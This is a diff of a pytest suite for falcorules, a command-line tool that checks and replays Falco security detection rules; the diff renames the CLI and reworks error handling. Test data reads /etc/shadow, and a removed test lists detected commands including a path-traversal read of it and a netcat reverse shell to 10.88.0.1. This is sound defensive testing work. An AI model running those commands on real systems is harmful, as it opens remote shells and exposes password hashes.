@@ -1,4 +1,4 @@
-"""The `labkit rules` commands."""
+"""The commands of `python -m falcorules`."""
 
 from __future__ import annotations
 
@@ -7,6 +7,7 @@ import gzip
 import http.server
 import json
 import os
+import re
 import subprocess
 import sys
 import threading
@@ -15,10 +16,10 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from falcorules.cli import rules
+from falcorules import EventError, FalcoRulesError
+from falcorules.cli import main
 from falcorules.events import open_events
-from falcorules.upstream import RELEASES, fetch
-from labkit.errors import LabError, RuleError
+from falcorules.rulesets import RELEASES, fetch
 
 DATA = Path(__file__).parent / "data"
 RULES = """
@@ -39,10 +40,19 @@ def file(tmp_path: Path) -> str:
 
 
 def _run(*arguments: str, stdin: str | bytes = "") -> tuple[int, str]:
-    result = CliRunner().invoke(rules, arguments, input=stdin)
+    result = CliRunner().invoke(main, arguments, input=stdin)
     if result.exception and not isinstance(result.exception, SystemExit):
         raise result.exception
     return result.exit_code, result.output
+
+
+def _refused(*arguments: str, stdin: str | bytes = "") -> str:
+    """The error of a command that can't be executed."""
+    code, output = _run(*arguments, stdin=stdin)
+    assert code == 1
+    assert output.startswith("Error: ")
+    assert "\n  What to do: " in output
+    return output
 
 
 def test_check(file: str, tmp_path: Path) -> None:
@@ -89,9 +99,9 @@ def test_replay(file: str) -> None:
     ids=lambda line: line[:40],
 )
 def test_replay_of_what_is_not_an_event(file: str, line: str) -> None:
-    with pytest.raises(LabError, match="standard input, line 2") as caught:
-        _run("replay", file, "--events", "-", stdin=b'{"evt.type":"open"}\n' + line.encode("latin-1"))
-    assert caught.value.hint
+    refused = _refused("replay", file, "--events", "-", stdin=b'{"evt.type":"open"}\n' + line.encode("latin-1"))
+    assert refused.startswith("Error: standard input, line 2")
+    assert len(refused.splitlines()) == 2
 
 
 def test_replay_of_every_kind_of_value(file: str) -> None:
@@ -118,9 +128,9 @@ def test_replay_of_a_file_that_can_t_be_read(
 ) -> None:
     if content is not None:
         (tmp_path / name).write_bytes(content)
-    with pytest.raises(LabError, match=f"Can't read events from .*: .*{what}") as caught:
-        _run("replay", file, "--events", str(tmp_path / name))
-    assert to_do in caught.value.hint
+    refused = _refused("replay", file, "--events", str(tmp_path / name))
+    assert re.search(f"Can't read events from .*: .*{what}", refused)
+    assert to_do in refused
 
 
 def test_list_and_explain(file: str) -> None:
@@ -141,8 +151,7 @@ def test_why(file: str) -> None:
         "'Shadow' does not match container (event 3250). What decided (✓ true, ✗ false):\n  ✗ evt.type = openat"
         in output
     )
-    with pytest.raises(LabError, match="No event has the number 1"):
-        _run("why", "Shadow", file, "--events", events, "--number", "1")
+    assert "No event has the number 1." in _refused("why", "Shadow", file, "--events", events, "--number", "1")
 
 
 def test_default_rules_and_the_rules_in_a_values_file(tmp_path: Path) -> None:
@@ -173,8 +182,7 @@ def test_what_is_not_a_values_file(tmp_path: Path, content: str | bytes | None, 
     values = tmp_path / "values.yaml"
     if content is not None:
         values.write_bytes(content if isinstance(content, bytes) else content.encode())
-    with pytest.raises(RuleError, match=message):
-        _run("check", "--values", str(values))
+    assert message in _refused("check", "--values", str(values))
     assert _run("check", str(values))[0] == 1
 
 
@@ -202,8 +210,7 @@ def test_any_bytes_are_checked_and_reported(tmp_path: Path, content: bytes) -> N
 def test_a_reader_that_goes_away_ends_the_command_quietly(file: str, tmp_path: Path) -> None:
     events = tmp_path / "events.jsonl"
     events.write_text('{"evt.type":"openat","fd.name":"/etc/shadow"}\n' * 5_000)
-    script = "from labkit.cli import main; main()"
-    command = [sys.executable, "-c", script, "rules", "replay", file, "--events", str(events)]
+    command = [sys.executable, "-m", "falcorules", "replay", file, "--events", str(events)]
     with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
         assert process.stdout is not None
         assert json.loads(process.stdout.readline())["rule"] == "Shadow"
@@ -217,7 +224,7 @@ COMMANDS = [["list"], ["check"], ["explain", "Shadow"], ["replay", "--events", s
 
 @pytest.mark.parametrize("arguments", COMMANDS, ids=lambda arguments: arguments[0])
 def test_output_that_can_t_be_written_is_an_error(file: str, arguments: list[str]) -> None:
-    command = [sys.executable, "-c", "from labkit.cli import main; main()", "rules", *arguments, file]
+    command = [sys.executable, "-m", "falcorules", *arguments, file]
 
     def run(*command: str, stdout: int | None = None) -> tuple[int, str]:
         done = subprocess.run(command, stdout=stdout, stderr=subprocess.PIPE, text=True, check=False)
@@ -228,19 +235,15 @@ def test_output_that_can_t_be_written_is_an_error(file: str, arguments: list[str
     os.close(reader)
     code, said = run(*command, stdout=full)
     assert code == 1
-    assert said.startswith(f"labkit: Input or output failed: {os.strerror(errno.ENOSPC)}.\n  What to do: ")
-    assert len(said.splitlines()) == 2
+    assert said == f"Error: Input or output failed: {os.strerror(errno.ENOSPC)}.\n"
     assert run(*command, stdout=gone) == (1, "")
-    code, said = run("sh", "-c", 'exec "$@" >&-', "sh", *command)
-    assert code == 1
-    assert said.startswith("labkit: Standard output is closed.\n  What to do: ")
     os.close(full)
     os.close(gone)
 
 
 def test_events_from_a_standard_input_that_is_closed(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sys, "stdin", None)
-    with pytest.raises(LabError, match="standard input: it is closed"):
+    with pytest.raises(EventError, match="standard input: it is closed"):
         next(open_events("-"))
 
 
@@ -248,27 +251,24 @@ def test_standard_input_is_named_as_a_file(file: str) -> None:
     code, output = _run("check", "-")
     assert code == 1
     assert "standard input is /dev/stdin" in output
-    with pytest.raises(RuleError, match="Could not read rules file -") as caught:
-        _run("list", "-")
-    assert "standard input is /dev/stdin" in caught.value.hint
+    refused = _refused("list", "-")
+    assert "Could not read rules file -" in refused
+    assert "standard input is /dev/stdin" in refused
 
 
 def test_rules_have_to_be_named(tmp_path: Path) -> None:
     code, output = _run("list")
     assert code == 2
     assert "Which rules?" in output
-    with pytest.raises(RuleError, match="There are no rule files"):
-        _run("check", str(tmp_path))
+    assert "There are no rule files" in _refused("check", str(tmp_path))
 
 
 def test_fields() -> None:
     code, output = _run("fields", "proc.an*")
     assert (code, output) == (0, f"{'proc.aname[argument, optional]':<48} charbuf\n")
     assert "fd.ip" in _run("fields", "ip")[1]
-    with pytest.raises(LabError, match="No field matches"):
-        _run("fields", "nothing")
-    with pytest.raises(LabError, match=r"No field matches '\['"):
-        _run("fields", "[")
+    assert "No field matches 'nothing'" in _refused("fields", "nothing")
+    assert "No field matches '['" in _refused("fields", "[")
 
 
 def test_fetch(tmp_path: Path) -> None:
@@ -290,35 +290,20 @@ def test_fetch(tmp_path: Path) -> None:
         server.shutdown()
     assert code == 0
     assert "falco_rules.yaml" in output
-    with pytest.raises(LabError, match="Can't fetch"):
+    with pytest.raises(FalcoRulesError, match="Can't fetch"):
         fetch(tmp_path / "none", url=url)
     assert not (tmp_path / "none").exists()
 
 
 @pytest.mark.parametrize("url", ["http://127.0.0.1:1/{other}/{file}", "nowhere", "http://a b/", "http://[/"])
 def test_fetch_from_where_nothing_is(tmp_path: Path, url: str) -> None:
-    with pytest.raises(LabError, match="Can't fetch"):
-        _run("fetch", "--to", str(tmp_path / "none"), "--url", url)
+    assert "Can't fetch" in _refused("fetch", "--to", str(tmp_path / "none"), "--url", url)
     assert not (tmp_path / "none").exists()
 
 
 def test_fetch_to_where_no_file_can_be(tmp_path: Path, file: str) -> None:
     for name in RELEASES:
         (tmp_path / name).write_text("- list: l\n  items: []\n")
-    with pytest.raises(LabError, match="Can't write the rule files to"):
+    with pytest.raises(FalcoRulesError, match="Can't write the rule files to"):
         fetch(Path(file), url=tmp_path.as_uri())
     assert Path(file).read_text() == RULES
-
-
-def test_the_recorded_visit_of_the_workshop(workshop: Path) -> None:
-    events = workshop / "custom-rules/recorded/visit.jsonl.gz"
-    values = workshop / "custom-rules/whoami.yaml"
-    code, output = _run("replay", "--default-rules", "--values", str(values), "--events", str(events))
-    assert code == 0
-    alerts = [json.loads(line) for line in output.splitlines()]
-    assert [(alert["rule"], alert["output_fields"]["proc.cmdline"]) for alert in alerts] == [
-        ("Whoami run in container", "whoami"),
-        ("Read sensitive file untrusted", "cat /etc/shadow"),
-        ("Read sensitive file untrusted", "cat /var/www/../../etc/shadow"),
-        ("Netcat Remote Code Execution in Container", "nc -e /bin/sh 10.88.0.1 4444"),
-    ]
